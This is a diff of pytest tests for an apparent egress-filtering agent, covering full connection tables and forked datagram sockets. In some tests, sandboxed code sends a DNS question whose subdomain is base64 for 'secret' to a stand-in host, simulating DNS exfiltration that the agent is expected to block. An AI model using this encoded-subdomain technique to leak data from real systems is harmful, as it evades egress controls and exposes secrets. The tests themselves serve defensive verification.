@@ -256,8 +256,11 @@ def full(kind):
 
 
 @pytest.mark.root
-def test_a_socket_that_has_no_room_to_note_whose_it_is_asks_no_question(agent):
+@pytest.mark.parametrize("table", ["free", "full"])
+def test_a_socket_that_has_no_room_to_note_whose_it_is_asks_no_question(agent, table: str):
     in_force(agent, Agent.ENFORCE | Agent.QUIC_SHUT)
+    if table == "full":
+        fill(agent)
     code = f"""
 import ctypes
 sock = full({DATAGRAM})
@@ -267,7 +270,8 @@ said(asks)
 """
     with resolver(NAMES) as asked:
         assert (agent.python(CLIENT + FULL + code).strip(), asked) == ("EPERM", [])
-    assert agent.collector.counters()["lost_mark"] == 1
+    assert agent.collector.counters()["lost_mark"] == (table == "full")
+    assert [e.name for e in agent.events() if e.kind is Kind.QUESTION] == ["c2vjcmv0.at.example"] * (table == "free")
 
 
 FRONT = f"""
@@ -283,17 +287,21 @@ def connections(agent) -> Map:
     return Map(agent.collector._maps["connections"], value=48)
 
 
-@pytest.mark.root
-def test_a_connection_has_its_hello_read_though_the_table_of_connections_is_full(agent):
-    rules = compile_rules(Declaration(destinations=("api.example",)), (), also=(f"{RESOLVER}:53",), limited=True)
-    Table(agent.collector, 0).put(rules, Agent.ENFORCE)
-    table = connections(agent)
-    placed = 0
+def fill(agent) -> None:
+    """That table, with what belongs to nobody."""
+    table, placed = connections(agent), 0
     with contextlib.suppress(OSError):
         for cookie in range(1 << 62, (1 << 62) + (1 << 16)):
             table.put(struct.pack("=Q", cookie), bytes(48))
             placed += 1
     assert 4000 < placed < 1 << 16
+
+
+@pytest.mark.root
+def test_a_connection_has_its_hello_read_though_the_table_of_connections_is_full(agent):
+    rules = compile_rules(Declaration(destinations=("api.example",)), (), also=(f"{RESOLVER}:53",), limited=True)
+    Table(agent.collector, 0).put(rules, Agent.ENFORCE)
+    fill(agent)
     with resolver(NAMES), listener("127.0.0.2", 443) as (_, heard):
         assert agent.python(CLIENT + FRONT).strip() == "sent"
     assert [data for data in heard if b"attacker" in data] == []
@@ -312,3 +320,27 @@ for n in range(200):
     assert len(heard) == 200
     assert len([e for e in agent.events() if e.kind is Kind.CONNECT]) == 200
     until(lambda: not list(connections(agent).keys(8)), "the end of the last connection")
+
+
+@pytest.mark.root
+def test_a_datagram_socket_is_known_until_nobody_has_it_any_more(agent):
+    """Whoever closed it first, and whoever asks by it last."""
+    rules = compile_rules(Declaration(destinations=("api.example",)), (), also=(f"{RESOLVER}:53",), limited=True)
+    Table(agent.collector, 0).put(rules, Agent.ENFORCE)
+    code = f"""
+import os
+def child(sock):
+    os.read(go, 1); said(lambda: sock.send({question("c2VjcmV0.at.example")!r})); sys.stdout.flush(); os._exit(0)
+for n in range(300):
+    sock = socket.socket(socket.AF_INET, {DATAGRAM}); sock.connect(("{RESOLVER}", 53)); sock.close()
+    sock = socket.socket(socket.AF_INET, {DATAGRAM})
+    sock.sendto({question("api.example")!r}, ("{RESOLVER}", 53)); sock.close()
+go, tell = os.pipe()
+sock = socket.socket(socket.AF_INET, {DATAGRAM}); sock.connect(("{RESOLVER}", 53))
+if not os.fork(): child(sock)
+sock.close(); os.write(tell, b"x"); os.wait()
+"""
+    with resolver(NAMES) as asked:
+        assert agent.python(CLIENT + code).split() == ["EPERM"]
+    assert set(asked) == {"api.example"}
+    assert not list(connections(agent).keys(8))
